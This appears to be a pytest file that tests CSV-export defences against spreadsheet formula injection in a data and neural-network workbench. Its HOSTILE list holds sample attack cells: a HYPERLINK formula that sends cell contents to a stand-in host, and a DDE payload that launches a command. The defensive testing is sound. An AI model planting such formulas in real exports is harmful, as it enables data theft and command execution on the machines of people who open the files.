"""CSV exports a spreadsheet opens without running anything: text cells that start like a formula
get a leading "'", numbers (negative ones too) stay numbers. One helper in core
(``spreadsheet_text``) serves the data export, the weights CSV, the history CSV and the views."""

from __future__ import annotations

import csv

import numpy as np
import pytest

from workbench.core import Network, export_csv
from workbench.core.history import RunHistory
from workbench.core.safefiles import spreadsheet_row, spreadsheet_text
from workbench.data import export_csv as export_dataset_csv
from workbench.data.dataset import Dataset, Split

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+SUM(A1:A9)", "-2+3", "@cmd", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]


def read(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.5", "-1", "+3", "-1e-05", "2.5E+10", "-.5", "cat", "a=b", "", "'=x", "x-1"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert spreadsheet_text(text) == text


def test_rows_pass_only_text_through():
    assert spreadsheet_row(["=A1", -0.5, None, 3, "-2"]) == ["'=A1", -0.5, None, 3, "-2"]


def test_the_data_export_neutralises_names_and_keeps_numbers(tmp_path):
    X = np.array([[-0.5, 1.0], [2.0, -3.25], [0.0, 1e-5]], dtype=np.float32)
    labels = np.array([0, 1, 2])
    dataset = Dataset(name="hostile", spec="csv:hostile.csv", task="classification",
                      splits={"train": Split(X, np.eye(3, dtype=np.float32)[labels], labels)},
                      feature_names=["=1+1", "-x"], target_names=["@label"],
                      class_names=[HOSTILE[0], "+SUM(A1)", "-1"])
    export_dataset_csv(dataset, tmp_path / "out.csv")
    rows = read(tmp_path / "out.csv")
    assert rows[0] == ["'=1+1", "'-x", "'@label"]
    assert rows[1] == ["-0.5", "1", "'" + HOSTILE[0]]
    assert rows[2] == ["2", "-3.25", "'+SUM(A1)"]
    assert rows[3][2] == "-1"                       # a class named by a number stays that number


def test_the_history_csv_neutralises_marker_notes(tmp_path):
    history = RunHistory(n_layers=2)
    history.add_marker("=HYPERLINK(\"x\")", 0.0)
    history.add_marker("-0.5", 1.0)
    history.add_marker("plain note", 2.0)
    history.write_csv(tmp_path / "history.csv")
    rows = read(tmp_path / "history.csv")
    note = rows[0].index("note")
    assert [r[note] for r in rows[1:]] == ["'=HYPERLINK(\"x\")", "-0.5", "plain note"]


def test_the_weights_csv_keeps_negative_values_numbers(tmp_path):
    net = Network([np.array([[-0.5], [0.25]])], [np.array([-1.0])], ["sigmoid"], "cross-entropy")
    export_csv(net, tmp_path / "w.csv")
    rows = read(tmp_path / "w.csv")
    assert rows[0] == ["layer", "kind", "from", "to", "value"]
    assert [r[4] for r in rows[1:]] == ["-0.5", "0.25", "-1.0"]


def test_the_views_csv_neutralises_text_cells():
    pytest.importorskip("PySide6")
    from workbench.gui.views.base import csv_text

    text = csv_text(["class", "=total"], [["=HYPERLINK(1)", -0.5], ["+x", 2.0], ["-1", float("nan")]])
    assert list(csv.reader(text.splitlines())) == [["class", "'=total"], ["'=HYPERLINK(1)", "-0.5"],
                                                   ["'+x", "2"], ["-1", ""]]
